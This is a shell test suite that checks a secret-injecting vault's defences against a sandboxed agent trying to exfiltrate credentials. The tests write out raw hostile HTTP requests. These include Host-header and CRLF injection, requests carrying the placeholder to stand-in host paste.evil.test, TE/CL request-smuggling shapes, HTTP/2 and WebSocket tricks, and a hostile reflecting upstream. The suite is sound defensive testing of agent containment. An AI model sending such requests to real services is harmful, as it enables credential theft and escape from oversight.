# Escape attempts, class "TLS/HTTP through the vault": the agent holds a
# placeholder and tries to get the real value somewhere other than its
# bound host, or to make the vault and the upstream disagree — a denied or
# another allowed server name on the bound host's address, Host header
# games, the placeholder in the path, a header name, a cookie, a chunked
# body split across chunks, a trailer, a pipelined second request, Basic
# wrapping toward another host, request smuggling shapes, a reflecting
# endpoint, HTTP/2 prefaces, WebSocket frames after the upgrade; and a
# hostile reflecting upstream (two secrets on one host, a reflection on a
# later request or connection, Range, gzip, a value as a header name); a
# FIFO in rules.d. (A header not exactly its format, Basic wrapping
# included: vault_edges.sh.)
# Real engine, vault, logd, nginx. The plain cases are in tests/integration/vault_inject.sh; these are
# the hostile variants. Evidence: the status and X-Portcullis-Error the
# sandbox got, nginx's access log (the upstream), the verdict log, and one
# invariant over everything: the real value reached no upstream request but
# api.github.test's, and no sandbox output.
. "$PC_TOP/tests/escape/escape_lib.bash"
. "$PC_TOP/tests/integration/vault_setup.bash"

esc_init vault "TLS/HTTP through the vault"
# vault_up, with a second secret bound to api.github.test:8444 in its own
# header (two secrets on one host:port)
vault_need_bins
lab_up 2
vault_config
cat >>"$V/rules.d/agents.yaml" <<-EOF
  - name: WS2_TOKEN
    host: api.github.test
    port: 8444
    header: X-Api-Auth
EOF
vault_secrets
V_WS2_VALUE="ws2-VAULTTEST$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
V_PH_WS2=$(printf '%s' "$V_WS2_VALUE" | "$V_BIN/portcullis" -c "$V/portcullis.yaml" secrets set WS2_TOKEN 2>/dev/null)
[ -n "$V_PH_WS2" ] || lab_die "secrets set WS2_TOKEN failed"
vault_logd_start
vault_start
vault_redirect
trap 'esc_finish' EXIT
GUARD_CONF=$V/portcullis.yaml GUARD_DIR=$V GUARD_BIN=$V_BIN
lab_upstream python3 "$PC_TOP/tests/integration/vault_ws_echo.py" "$LAB_API4" 8444 \
	"$LAB_DIR/pki/api.github.test.pem" "$LAB_DIR/pki/api.github.test.key" "$LAB_DIR/ws.log" &
lab_wait_tcp "$LAB_UP" "$LAB_API4" 8444
OUT=$LAB_DIR/sandbox-outputs
: >"$OUT"
PH=$V_PH_GH

client() { # args of vault_client.py; output kept for the final invariant
	lab_sb 1 python3 "$PC_TOP/tests/escape/vault_client.py" "$@" 2>&1 | tee -a "$OUT"
}
rawreq() { # SNI REQUEST [connect-host]
	client raw "$LAB_DIR/vault-ca.pem" "${3:-api.github.test}" 443 "$1" "$2"
}
status_of() { printf '%s\n' "$1" | head -1 | awk '/^HTTP/ {print $2} !/^HTTP/ {print "none"}'; }
why_of() { printf '%s\n' "$1" | tr -d '\r' | sed -n 's/^X-Portcullis-Error: //p' | head -1; }
up_lines() { v_upstream_log | wc -l | tr -d ' '; }
value_leaks() { # nginx lines with the real value for any host but api.github.test
	v_upstream_log | grep -F "$V_GH_VALUE" | grep -vE "^($LAB_API4|$LAB_API6) api.github.test " | wc -l | tr -d ' '
}

# One refusal shape: status in STATUSES (ERE), the upstream saw nothing.
refused() { # desc statuses-ERE output before
	local st why
	st=$(status_of "$3")
	why=$(why_of "$3")
	t_match "$1: refused ($2)" "^($2)$" "$st"
	t_eq "$1: the upstream saw nothing" "$4" "$(up_lines)"
	t_nomatch "$1: the sandbox never sees the value" "$V_GH_VALUE" "$3"
	ESC_EV="status $st${why:+, X-Portcullis-Error: $why}; nginx: no request"
}

# One case the vault must refuse: REQUEST with SNI (to CONNECT's address,
# default api.github.test), judged by refused.
refuse_case() { # description name statuses-ERE sni request [connect-host]
	esc_begin "$1"
	b=$(up_lines)
	out=$(rawreq "$4" "$5" "${6:-}")
	refused "$2" "$3" "$out" "$b"
	esc_end "refused" "$ESC_EV"
}

# A request let through: the value stayed out of the sandbox's answer and
# went to no upstream but api.github.test ($st: the status it got).
value_kept() { # output
	st=$(status_of "$1")
	t_nomatch "the sandbox never sees the value" "$V_GH_VALUE" "$1"
	t_eq "the value went nowhere but api.github.test" 0 "$(value_leaks)"
}

t_match "baseline: the placeholder to its bound host is injected" "auth=Bearer $PH" \
	"$(vcurl 1 https://api.github.test/echo -H "Authorization: Bearer $PH")"

# ---- server names ---------------------------------------------------------------------
esc_begin "TLS with SNI cdn-evil.test (not allowed) on api.github.test's address, placeholder in the request"
b=$(up_lines)
out=$(rawreq cdn-evil.test "GET /echo HTTP/1.1\r\nHost: cdn-evil.test\r\nAuthorization: Bearer $PH\r\n\r\n")
t_match "the handshake is refused" "^handshake refused" "$out"
t_eq "the upstream saw nothing" "$b" "$(up_lines)"
r=$(esc_reason '"tls.client.server_name":"cdn-evil.test"')
esc_end "handshake refused" "client: $(printf '%s' "$out" | head -1); nginx: no request; log: \"$r\""

refuse_case "TLS with SNI paste.evil.test (allowed for this sandbox) on api.github.test's address, with the placeholder" "another allowed name" "403|502" paste.evil.test \
	"GET /echo HTTP/1.1\r\nHost: paste.evil.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n"

esc_begin "TLS without SNI to the bound host's address"
b=$(up_lines)
out=$(lab_sb 1 bash -c "printf 'GET /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\n\r\n' |
	timeout 5 openssl s_client -quiet -noservername -connect $LAB_API4:443 -CAfile $LAB_DIR/vault-ca.pem" 2>&1 | tee -a "$OUT")
t_eq "the upstream saw nothing" "$b" "$(up_lines)"
t_nomatch "no HTTP answer" "^HTTP/1.1 200" "$out"
esc_end "handshake refused" "openssl: $(printf '%s' "$out" | grep -m1 -oE 'alert [a-z ]+|unrecognized name' || echo 'no response'); nginx: no request"

# ---- Host header games -----------------------------------------------------------------------
for host in "paste.evil.test" "api.github.test:444" "api.github.test@paste.evil.test" "api.github.test.evil.test" \
	"api.github.test\r\nHost: paste.evil.test"; do
	refuse_case "Host: $(printf '%s' "$host" | sed 's/\\r\\n/ + /') with SNI api.github.test and the placeholder" "Host $host" "400|421" api.github.test \
		"GET /echo HTTP/1.1\r\nHost: $host\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n"
done

refuse_case "absolute-form request target naming another host (GET https://paste.evil.test/echo)" "absolute-form" "400" api.github.test \
	"GET https://paste.evil.test/echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n"

esc_begin "Host with a trailing dot and in capitals (the same name, written otherwise)"
b=$(up_lines)
out=$(rawreq api.github.test "GET /echo HTTP/1.1\r\nHost: API.GITHUB.TEST.\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
value_kept "$out"
esc_end "status $st" "the value reached only api.github.test (nginx), never the sandbox"

# ---- where the placeholder may not go ---------------------------------------------------------
ph_enc=$(printf '%s' "$PH" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')
for case in "path|GET /echo/$PH HTTP/1.1\r\nHost: api.github.test\r\n" \
	"percent-encoded path|GET /echo/$ph_enc HTTP/1.1\r\nHost: api.github.test\r\n" \
	"header name|GET /echo HTTP/1.1\r\nHost: api.github.test\r\nX-$PH: 1\r\n" \
	"cookie|GET /echo HTTP/1.1\r\nHost: api.github.test\r\nCookie: t=$PH\r\n" \
	"Proxy-Authorization|GET /echo HTTP/1.1\r\nHost: api.github.test\r\nProxy-Authorization: Bearer $PH\r\n" \
	"two secrets in one header|GET /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH $V_PH_PYPI\r\n"; do
	name=${case%%|*} req=${case#*|}
	esc_begin "the placeholder in the $name"
	b=$(up_lines)
	out=$(rawreq api.github.test "${req}Connection: close\r\n\r\n")
	# the percent-encoded path too: the upstream decodes it into the
	# placeholder (issue 33, finding 5; vault_edges.sh has the other forms)
	refused "$name" "403" "$out" "$b"
	t_match "$name: logged as exfiltration" '"event.action":"exfiltration"' "$(v_verdicts | tail -n +$((ESC_REC0 + 1)))"
	esc_end "refused" "$ESC_EV; log: exfiltration record"
done

h=$((${#PH} / 2))
p1=${PH:0:$h} p2=${PH:$h}
refuse_case "the placeholder split across two chunks of a chunked body" "split in chunks" "403" api.github.test \
	"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n$(printf '%x' ${#p1})\r\n$p1\r\n$(printf '%x' ${#p2})\r\n$p2\r\n0\r\n\r\n"

refuse_case "the placeholder in a chunked body's trailer" "trailer" "400|403" api.github.test \
	"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\nhi\r\n0\r\nX-T: $PH\r\n\r\n"

esc_begin "a good request, then a pipelined second one for another Host with the placeholder"
b=$(up_lines)
out=$(rawreq api.github.test "GET / HTTP/1.1\r\nHost: api.github.test\r\n\r\nGET /echo HTTP/1.1\r\nHost: paste.evil.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
t_match "the first is served" "^HTTP/1.1 200" "$out"
t_match "the second is refused" "HTTP/1.1 421" "$out"
t_eq "the upstream saw only the first" "$((b + 1))" "$(up_lines)"
t_eq "the value went nowhere but api.github.test" 0 "$(value_leaks)"
esc_end "second request 421" "nginx: one request (the first); X-Portcullis-Error: $(why_of "$out")"

cred=$(printf '%s:x' "$PH" | base64 -w0)
refuse_case "Basic credentials with the placeholder as the user name, toward pypi.test (bound elsewhere)" "basic user" "403" pypi.test \
	"GET /echo HTTP/1.1\r\nHost: pypi.test\r\nAuthorization: Basic $cred\r\nConnection: close\r\n\r\n" pypi.test

# ---- request smuggling shapes ------------------------------------------------------------------
for case in "TE and CL|Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" \
	"TE list chunked, identity|Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" \
	"TE with space before the colon|Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" \
	"TE xchunked|Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" \
	"TE twice|Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" \
	"CL list|Content-Length: 4, 4\r\n\r\nabcd" \
	"CL twice|Content-Length: 4\r\nContent-Length: 4\r\n\r\nabcd" \
	"CL with a sign|Content-Length: +4\r\n\r\nabcd" \
	"bare LF|X-A: 1\nX-B: 2\r\n\r\n" \
	"obs-fold|X-A: 1\r\n  folded\r\n\r\n" \
	"NUL in a value|X-A: a\x00b\r\n\r\n"; do
	name=${case%%|*} rest=${case#*|}
	refuse_case "request smuggling shape: $name" "$name" "400" api.github.test \
		"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\n$rest"
done

inner="GET /echo HTTP/1.1\r\nHost: paste.evil.test\r\nAuthorization: Bearer $PH\r\n\r\n"
len=$(printf "$inner" | wc -c)
refuse_case "a body (by Content-Length) that holds a second request with the placeholder for another host" "request in a body" "403" api.github.test \
	"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nContent-Length: $len\r\nConnection: close\r\n\r\n$inner"

# ---- reflection -------------------------------------------------------------------------------
esc_begin "a reflecting endpoint, over HTTP/1.0 (close-delimited) and with HEAD"
out=$(rawreq api.github.test "GET /echo HTTP/1.0\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\n\r\n")
t_match "HTTP/1.0: the reflection arrives as the placeholder" "auth=Bearer $PH" "$out"
t_nomatch "HTTP/1.0: never the value" "$V_GH_VALUE" "$out"
out2=$(rawreq api.github.test "HEAD /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
t_nomatch "HEAD: never the value" "$V_GH_VALUE" "$out2"
t_match "the upstream did get the value (the injection worked)" "auth=\"Bearer $V_GH_VALUE\"" "$(v_upstream_log | tail -2)"
esc_end "scrubbed" "the reply carries the placeholder; the value only in nginx's log for api.github.test"

# ---- HTTP/2 -------------------------------------------------------------------------------------
esc_begin "HTTP/2: ALPN h2 only"
b=$(up_lines)
out=$(client raw "$LAB_DIR/vault-ca.pem" api.github.test 443 api.github.test "GET / HTTP/1.1\r\nHost: api.github.test\r\nConnection: close\r\n\r\n" --alpn h2)
t_nomatch "no h2 is negotiated" "^alpn: h2" "$out"
esc_end "$(printf '%s' "$out" | head -1)" "the vault offers http/1.1 only"

refuse_case "HTTP/2: the connection preface (prior knowledge) over TLS" "h2 preface" "400|505|none" api.github.test \
	"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

refuse_case "HTTP/2: an h2c upgrade with the placeholder" "h2c" "501" api.github.test \
	"GET /echo HTTP/1.1\r\nHost: api.github.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nAuthorization: Bearer $PH\r\n\r\n"

# ---- WebSocket after the upgrade ---------------------------------------------------------------------
for mode in split ping; do
	esc_begin "WebSocket: the placeholder in a message $([ $mode = split ] && echo 'split across two frames' || echo 'as a ping payload')"
	w0=$(grep -c . "$LAB_DIR/ws.log" 2>/dev/null || echo 0)
	out=$(client ws "$LAB_DIR/vault-ca.pem" api.github.test 8444 api.github.test "$V_PH_WS" $mode "x=$V_PH_GH;")
	t_match "the upgrade succeeded" "^HTTP/1.1 101" "$out"
	t_nomatch "the tunnel ended: the message after it was not echoed" "echo of after: True" "$out"
	t_nomatch "the upstream echo server never saw the placeholder" "$V_PH_GH" "$(cat "$LAB_DIR/ws.log" 2>/dev/null)"
	t_match "logged as exfiltration" '"event.action":"exfiltration"' "$(v_verdicts | tail -n +$((ESC_REC0 + 1)))"
	esc_end "tunnel ended" "upstream echo log: no placeholder; log: exfiltration record"
done

# ---- a hostile reflecting upstream -------------------------------------------------------------------
# api.github.test:8444 (tests/integration/vault_ws_echo.py) answers plain
# requests with their credentials as JSON. WS_TOKEN (Authorization) and
# WS2_TOKEN (X-Api-Auth) are bound there. Each answer is searched for any
# 8 bytes of a value in any form (vault_client.py leak: JSON and percent
# escapes undone, base64 at every offset, gzip inflated).
leak_of() { python3 "$PC_TOP/tests/escape/vault_client.py" leak "$V_WS_VALUE" "$V_WS2_VALUE" "$V_GH_VALUE"; }
R="Host: api.github.test:8444\r\n"
seqreq() { client seq "$LAB_DIR/vault-ca.pem" api.github.test 8444 api.github.test "$@"; }
wslog() { cat "$LAB_DIR/ws.log" 2>/dev/null; }

esc_begin "two secrets bound to one host:port, both reflected in one answer"
out=$(seqreq "GET /reflect HTTP/1.1\r\n${R}Authorization: Bearer $V_PH_WS\r\nX-Api-Auth: Bearer $V_PH_WS2\r\n\r\n")
t_match "served" "^HTTP/1.1 200" "$out"
t_match "the upstream got both values, each in its format" "auth=Bearer $V_WS_VALUE x-api-auth=Bearer $V_WS2_VALUE" "$(wslog)"
t_eq "no form of either value reached the sandbox" "no leak" "$(printf '%s' "$out" | leak_of)"
esc_end "scrubbed" "both values scrubbed"

esc_begin "delayed reflection: a credential injected, reflected on the next request of the connection"
out=$(seqreq "GET /reflect HTTP/1.1\r\n${R}Authorization: Bearer $V_PH_WS\r\n\r\n" "GET /last HTTP/1.1\r\n${R}\r\n")
t_match "both served" "HTTP/1.1 200.*HTTP/1.1 200" "$(printf '%s' "$out" | tr -d '\r\n')"
t_eq "no form of the value reached the sandbox" "no leak" "$(printf '%s' "$out" | leak_of)"
esc_end "scrubbed" "the connection keeps its patterns for its life"

esc_begin "delayed reflection on a later connection"
seqreq "GET /reflect HTTP/1.1\r\n${R}Authorization: Bearer $V_PH_WS\r\n\r\n" >/dev/null
out=$(seqreq "GET /last HTTP/1.1\r\n${R}\r\n")
t_match "served" "^HTTP/1.1 200" "$out"
t_eq "no form of the value reached the sandbox" "no leak" "$(printf '%s' "$out" | leak_of)"
esc_end "scrubbed" "the bound secret's value and the value-only part of its encodings, in every alignment"

esc_begin "Range: the reflection fetched 8 bytes at a time (no piece holds a whole value)"
out=$(client pieces "$LAB_DIR/vault-ca.pem" api.github.test 8444 api.github.test "Authorization: Bearer $V_PH_WS" 8 12)
t_nomatch "no 206 reached the sandbox" "^HTTP/1.1 206" "$out"
t_nomatch "the upstream never saw a Range with the credential" "auth=Bearer $V_WS_VALUE .*range=bytes" "$(wslog)"
t_eq "no form of the value reached the sandbox" "no leak" "$(printf '%s' "$out" | leak_of)"
esc_end "Range dropped" "Range/If-Range are not forwarded with a credential: whole answers, scrubbed"

esc_begin "a 206 to a request with a credential, unasked"
out=$(seqreq "GET /partial HTTP/1.1\r\n${R}Authorization: Bearer $V_PH_WS\r\n\r\n")
t_match "refused (502)" "^HTTP/1.1 502" "$out"
t_match "the reason says why" "partial response \\(206\\)" "$(why_of "$out")"
t_match "logged" '"event.reason":"upstream sent a partial response' "$(v_verdicts | tail -n 3)"
esc_end "refused" "502, X-Portcullis-Error: $(why_of "$out")"

esc_begin "a gzip-compressed reflection (Accept-Encoding: identity ignored)"
out=$(seqreq "GET /gzip HTTP/1.1\r\n${R}Authorization: Bearer $V_PH_WS\r\n\r\n")
t_match "refused (502)" "^HTTP/1.1 502" "$out"
t_match "the reason says why" "Content-Encoding" "$(why_of "$out")"
t_match "logged" '"event.reason":"upstream sent an encoded' "$(v_verdicts | tail -n 3)"
t_eq "no form of the value reached the sandbox" "no leak" "$(printf '%s' "$out" | leak_of)"
esc_end "refused" "502, X-Portcullis-Error: $(why_of "$out")"

esc_begin "the value as an upstream header name, in a response the vault refuses"
out=$(seqreq "GET /badname HTTP/1.1\r\n${R}Authorization: Bearer $V_PH_WS\r\n\r\n")
t_match "refused (502)" "^HTTP/1.1 502" "$out"
t_nomatch "the reason does not hold the value" "$V_WS_VALUE" "$out"
t_nomatch "nor does the log" "$V_WS_VALUE" "$(v_verdicts)"
esc_end "refused" "502, X-Portcullis-Error: $(why_of "$out")"

# ---- invariants over the whole run ------------------------------------------------------------------
t_eq "the value reached no upstream request but api.github.test's" 0 "$(value_leaks)"
t_nomatch "no sandbox output ever held the value" "$V_GH_VALUE" "$(cat "$OUT")"
t_nomatch "no verdict record holds the value" "$V_GH_VALUE" "$(v_verdicts)"
for v in "$V_WS_VALUE" "$V_WS2_VALUE"; do
	t_nomatch "no sandbox output ever held ${v%%VAULTTEST*} value" "$v" "$(cat "$OUT")"
	t_nomatch "no verdict record holds ${v%%VAULTTEST*} value" "$v" "$(v_verdicts)"
done
t_eq "no sandbox output held any form of a value" "no leak" "$(leak_of <"$OUT")"
t_ok "the verdict log verifies" "$V_BIN/portcullis" -c "$V/portcullis.yaml" log verify

# ---- a FIFO in rules.d (last: it stops the vault) ----------------------------------------------------
esc_begin "a FIFO named x.yaml in rules.d: portcullis-vault -t, the vault's reload, then SIGTERM"
mkfifo "$V/rules.d/x.yaml"
out=$(lab_gw timeout -k 2 10 "$V_BIN/portcullis-vault" -c "$V/portcullis.yaml" -t 2>&1) && rc=0 || rc=$?
t_ok "portcullis-vault -t does not wait on it (timeout: 124, 137)" test "$rc" != 124 -a "$rc" != 137
t_ok "portcullis-vault -t refuses it" test "$rc" != 0
t_match "naming the file" "x.yaml is a FIFO" "$out"
kill -HUP "$V_VAULT_PID"
for _ in $(seq 50); do grep -q "x.yaml is a FIFO" "$LAB_DIR/vault.stderr" && break; sleep 0.2; done
t_match "the reload is refused, naming the file" "x.yaml is a FIFO" "$(cat "$LAB_DIR/vault.stderr")"
kill -TERM "$V_VAULT_PID"
for _ in $(seq 50); do kill -0 "$V_VAULT_PID" 2>/dev/null || break; sleep 0.2; done
t_ok "SIGTERM still stops the vault" bash -c "! kill -0 $V_VAULT_PID 2>/dev/null"
rm -f "$V/rules.d/x.yaml"
esc_end "refused" "-t: exit $rc; reload refused naming x.yaml; SIGTERM obeyed"
t_done

